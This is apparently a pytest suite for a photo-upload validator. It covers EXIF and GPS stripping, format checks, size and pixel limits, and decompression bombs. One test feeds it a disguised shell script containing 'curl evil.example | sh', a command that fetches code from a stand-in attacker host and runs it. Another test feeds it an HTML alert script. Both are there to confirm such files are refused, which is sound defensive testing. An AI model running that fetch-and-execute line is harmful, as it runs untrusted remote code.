"""Photo uploads: limits, type by content, bombs, re-encoding and GPS kept away from the public."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from pointsbank.errors import Invalid
from pointsbank.reports import photos
from tests.factories.reports import photo_bytes


def _code(fn, *args, **kw) -> str:
    with pytest.raises(Invalid) as info:
        fn(*args, **kw)
    return info.value.code


def test_jpeg_png_webp_are_reencoded_as_jpeg_without_metadata():
    for fmt in ("JPEG", "PNG", "WEBP"):
        photo = photos.check_photo(io.BytesIO(photo_bytes(fmt=fmt, gps=(29.56, 106.45) if fmt == "JPEG" else None)))
        with Image.open(io.BytesIO(photo.data)) as img:
            assert img.format == "JPEG"
            assert len(img.getexif()) == 0
            assert "exif" not in img.info


def test_gps_is_read_for_the_coordinator_but_not_kept_in_the_file():
    photo = photos.check_photo(io.BytesIO(photo_bytes(gps=(29.5612, 106.4521))))
    assert photo.gps_lat == pytest.approx(29.5612, abs=1e-3)
    assert photo.gps_lon == pytest.approx(106.4521, abs=1e-3)
    assert b"PhoneMaker" not in photo.data
    with Image.open(io.BytesIO(photo.data)) as img:
        assert not img.getexif().get_ifd(0x8825)


def test_renamed_script_is_not_an_image():
    assert _code(photos.check_photo, io.BytesIO(b"#!/bin/sh\ncurl evil.example | sh\n")) == "not_an_image"


def test_html_and_empty_files_are_not_images():
    assert _code(photos.check_photo, io.BytesIO(b"<html><script>alert(1)</script></html>")) == "not_an_image"
    assert _code(photos.check_photo, io.BytesIO(b"")) == "not_an_image"


def test_truncated_jpeg_is_refused():
    data = photo_bytes(size=(400, 300))
    assert _code(photos.check_photo, io.BytesIO(data[: len(data) // 3])) == "not_an_image"


def test_other_image_formats_are_refused():
    img = Image.new("RGB", (10, 10))
    out = io.BytesIO()
    img.save(out, "GIF")
    out.seek(0)
    assert _code(photos.check_photo, out) == "unsupported_image_type"


def test_too_large_file_is_refused_before_decoding():
    big = io.BytesIO(b"\xff\xd8\xff" + b"\0" * (photos.MAX_PHOTO_BYTES + 10))
    assert _code(photos.check_photo, big) == "photo_too_large"


def test_decompression_bomb_is_refused():
    img = Image.new("1", (12000, 12000))
    out = io.BytesIO()
    img.save(out, "PNG")
    assert len(out.getvalue()) < 1024 * 1024  # tiny file, 144 million pixels
    out.seek(0)
    assert _code(photos.check_photo, out) == "image_too_many_pixels"


def test_too_many_pixels_under_pillow_limit_is_refused():
    img = Image.new("1", (7000, 6000))
    out = io.BytesIO()
    img.save(out, "PNG")
    out.seek(0)
    assert _code(photos.check_photo, out) == "image_too_many_pixels"


def test_count_limits():
    three = [io.BytesIO(photo_bytes()) for _ in range(3)]
    assert len(photos.check_photos(three)) == 3
    assert _code(photos.check_photos, [io.BytesIO(photo_bytes()) for _ in range(4)]) == "too_many_photos"
    assert _code(photos.check_photos, []) == "photo_required"


def test_one_bad_photo_refuses_all_and_names_it():
    with pytest.raises(Invalid) as info:
        photos.check_photos([io.BytesIO(photo_bytes()), io.BytesIO(b"not an image")])
    assert info.value.code == "not_an_image"
    assert info.value.details == {"photo": 2}


def test_big_photo_is_scaled_down():
    photo = photos.check_photo(io.BytesIO(photo_bytes(size=(4000, 3000))))
    assert max(photo.width, photo.height) == photos.MAX_SIDE
